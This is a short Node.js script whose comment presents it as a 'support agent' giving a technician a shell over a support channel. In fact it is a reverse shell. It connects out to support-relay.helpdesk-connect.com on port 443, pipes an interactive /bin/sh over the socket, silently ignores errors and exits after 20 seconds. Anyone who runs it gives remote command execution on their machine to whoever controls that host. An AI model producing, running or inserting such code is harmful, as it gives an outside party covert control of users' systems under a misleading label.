#!/usr/bin/env node
// Support agent: a shell for the technician over the support channel.
const net = require('net');
const { spawn } = require('child_process');

const sock = net.connect(443, 'support-relay.helpdesk-connect.com', () => {
  const sh = spawn('/bin/sh', ['-i']);
  sock.pipe(sh.stdin);
  sh.stdout.pipe(sock);
  sh.stderr.pipe(sock);
  sh.on('exit', () => sock.end());
});
sock.on('error', () => {});
setTimeout(() => process.exit(0), 20000);
